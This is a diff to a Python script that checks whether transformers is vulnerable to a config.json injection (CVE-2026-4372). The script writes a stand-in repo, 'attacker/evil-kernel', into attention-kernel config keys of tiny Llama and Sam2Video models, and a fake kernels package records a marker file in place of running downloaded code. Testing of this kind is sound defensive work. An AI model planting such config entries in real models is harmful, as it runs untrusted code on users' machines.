@@ -1,16 +1,19 @@
 """`hfpatch verify` for transformers-44395 (CVE-2026-4372), run in the target interpreter: torch, CPU, no network.
 
-In transformers 5.1.0 and 5.2.0 PreTrainedConfig.__init__ sets every unknown key of config.json as an attribute,
-the private _attn_implementation_internal too, so from_pretrained takes a repo id written there for a requested
-attention kernel and has the kernels package download and import that repo's code, without trust_remote_code. 5.3.0
-skips the two private keys.
+In transformers 5.0.0 to 5.2.0 a model's config.json can name a Hub repo as an attention kernel, which from_pretrained
+has the kernels package download and import, without trust_remote_code: in _attn_implementation_internal (which
+PreTrainedConfig.__init__ sets as any unknown key), and in a sub-config's own attn_implementation, which the composite
+configs that build their sub-configs after super().__init__ (sam2_video, edgetam_video, sam3_video, gemma3n) keep as
+it is written. 5.3.0 skips the private key in PreTrainedConfig.__init__ and has get_kernel refuse a repo outside
+kernels-community (unless allow_all_kernels=True, which 5.3.0 adds to from_pretrained).
 
-It saves a tiny Llama in a scratch directory, writes "_attn_implementation_internal": "attacker/evil-kernel" into its
-config.json, and puts a stand-in kernels distribution (0.12.0) first on sys.path whose get_kernel(), where the real
-one downloads and imports the repo, writes a marker file. Then AutoModelForCausalLM.from_pretrained(the directory).
-Right: the model loads and the marker is not written. The bug: it is. It removes the scratch directory and prints
-one JSON line: ok, bug, error_type, error, loader_file (transformers.configuration_utils' file), version, and needs
-where torch is absent.
+It puts a stand-in kernels distribution (0.12.0) first on sys.path whose get_kernel(), where the real one downloads
+and imports the repo, writes a marker file, then makes two attacks in a scratch directory: a tiny Llama whose
+config.json sets "_attn_implementation_internal" to the repo, and a tiny Sam2Video whose config.json sets the repo as
+its vision_config's "attn_implementation"; each loaded with AutoModel*.from_pretrained(the directory). Right: neither
+marker is written (the model loads, or from_pretrained refuses the kernel). The bug: a marker is. It removes the
+scratch directory and prints one JSON line: ok, bug, error_type, error, loader_file (the file of
+transformers.integrations.hub_kernels), version, and needs where torch is absent.
 """
 
 from __future__ import annotations
@@ -25,8 +28,10 @@ import warnings
 from pathlib import Path
 from typing import Any
 
-MODULE = "transformers.configuration_utils"
-REPO = "attacker/evil-kernel"
+MODULE = "transformers.integrations.hub_kernels"
+# A repo and a function in it, the form every release with the kernel loader reads (4.53 to 4.55 require the function);
+# one repo an attack, since transformers loads a flash-attention implementation once a process, by its name.
+REPO = "attacker/evil-kernel-{index}:attention"
 # The stand-in kernels package: the names transformers.integrations.hub_kernels imports, and a get_kernel that runs
 # "the repo's code" (writes the marker, MARKER below) where the real one snapshot_download()s the repo and imports it.
 KERNELS = """
@@ -85,13 +90,7 @@ def stand_in_kernels(site: Path, marker: Path) -> None:
     sys.path.insert(0, str(site))
 
 
-def run(scratch: Path, marker: Path) -> dict[str, Any]:
-    importlib.import_module("torch")
-    transformers: Any = importlib.import_module("transformers")
-    transformers.logging.set_verbosity_error()
-    result: dict[str, Any] = {"ok": False, "bug": False, "error_type": "", "error": ""}
-    result["version"] = transformers.__version__
-    model_dir = scratch / "model"
+def tiny_llama(transformers: Any, directory: Path, repo: str) -> None:
     config = transformers.LlamaConfig(
         vocab_size=64,
         hidden_size=16,
@@ -100,31 +99,90 @@ def run(scratch: Path, marker: Path) -> dict[str, Any]:
         num_attention_heads=2,
         num_key_value_heads=2,
     )
-    transformers.LlamaForCausalLM(config).save_pretrained(str(model_dir))
-    config_file = model_dir / "config.json"
-    saved = json.loads(config_file.read_text(encoding="utf-8"))
-    saved["_attn_implementation_internal"] = REPO
-    config_file.write_text(json.dumps(saved), encoding="utf-8")
+    transformers.LlamaForCausalLM(config).save_pretrained(str(directory))
+    saved = json.loads((directory / "config.json").read_text(encoding="utf-8"))
+    saved["_attn_implementation_internal"] = repo
+    (directory / "config.json").write_text(json.dumps(saved), encoding="utf-8")
 
+
+def tiny_sam2_video(transformers: Any, directory: Path, repo: str) -> None:
+    backbone = {
+        "model_type": "sam2_hiera_det_model",
+        "hidden_size": 8,
+        "num_attention_heads": 1,
+        "blocks_per_stage": [1, 1, 1, 1],
+        "embed_dim_per_stage": [8, 16, 32, 64],
+        "num_attention_heads_per_stage": [1, 1, 1, 1],
+        "window_size_per_stage": [2, 2, 2, 2],
+        "global_attention_blocks": [1],
+        "image_size": [64, 64],
+        "window_positional_embedding_background_size": [2, 2],
+    }
+    vision = {
+        "model_type": "sam2_vision_model",
+        "backbone_config": backbone,
+        "backbone_channel_list": [64, 32, 16, 8],
+        "fpn_hidden_size": 16,
+    }
+    config = transformers.Sam2VideoConfig(
+        vision_config=vision,
+        prompt_encoder_config={"hidden_size": 16, "image_size": 64, "patch_size": 16},
+        mask_decoder_config={"hidden_size": 16, "num_attention_heads": 1, "mlp_dim": 32, "iou_head_hidden_dim": 16},
+        image_size=64,
+        memory_attention_hidden_size=16,
+        memory_attention_feed_forward_hidden_size=32,
+        memory_attention_num_layers=1,
+        memory_encoder_hidden_size=16,
+        memory_encoder_output_channels=8,
+        mask_downsampler_embed_dim=16,
+        memory_fuser_embed_dim=16,
+        memory_fuser_intermediate_dim=32,
+    )
+    transformers.Sam2VideoModel(config).save_pretrained(str(directory))
+    saved = json.loads((directory / "config.json").read_text(encoding="utf-8"))
+    saved["vision_config"]["attn_implementation"] = repo
+    (directory / "config.json").write_text(json.dumps(saved), encoding="utf-8")
+
+
+# Each attack: what config.json sets, the model it builds, and the auto class that loads it.
+ATTACKS = [
+    ("_attn_implementation_internal in config.json", tiny_llama, "AutoModelForCausalLM"),
+    ("attn_implementation in config.json's vision_config (a sub-config)", tiny_sam2_video, "AutoModel"),
+]
+
+
+def attack(transformers: Any, scratch: Path, marker: Path, index: int) -> str | None:
+    """One attack: the bug it showed, or None (the model loaded without the kernel, or the kernel was refused)."""
+    where, build, auto = ATTACKS[index]
+    directory, repo = scratch / f"model{index}", REPO.format(index=index)
+    build(transformers, directory, repo)
     failure: Exception | None = None
     try:
-        transformers.AutoModelForCausalLM.from_pretrained(str(model_dir))
-    except Exception as error:  # what from_pretrained did after the kernel ran, or why it failed without it
+        getattr(transformers, auto).from_pretrained(str(directory))
+    except Exception as error:  # what from_pretrained did after the kernel ran, or its refusal
         failure = error
     if marker.exists():
+        marker.unlink()
         after = "" if failure is None else f"; from_pretrained then failed with {type(failure).__name__}"
-        result.update(
-            bug=True,
-            error_type="CodeExecution",
-            error=(
-                f"AutoModelForCausalLM.from_pretrained (no trust_remote_code) ran the code of the kernel repo {REPO} "
-                f"that config.json names in _attn_implementation_internal{after}"
-            ),
+        return (
+            f"{auto}.from_pretrained (no trust_remote_code) ran the kernel repo {repo}'s code, named by {where}{after}"
         )
-    elif failure is None:
-        result["ok"] = True
+    if failure is not None and "allow_all_kernels" not in str(failure):
+        raise RuntimeError(f"{auto}.from_pretrained of the model with {where}: {type(failure).__name__}: {failure}")
+    return None
+
+
+def run(scratch: Path, marker: Path) -> dict[str, Any]:
+    importlib.import_module("torch")
+    transformers: Any = importlib.import_module("transformers")
+    transformers.logging.set_verbosity_error()
+    result: dict[str, Any] = {"ok": False, "bug": False, "error_type": "", "error": ""}
+    result["version"] = transformers.__version__
+    ran = [found for index in range(len(ATTACKS)) if (found := attack(transformers, scratch, marker, index))]
+    if ran:
+        result.update(bug=True, error_type="CodeExecution", error="; ".join(ran))
     else:
-        result.update(error_type=type(failure).__name__, error=f"from_pretrained: {failure}"[:400])
+        result["ok"] = True
     return result
 
 
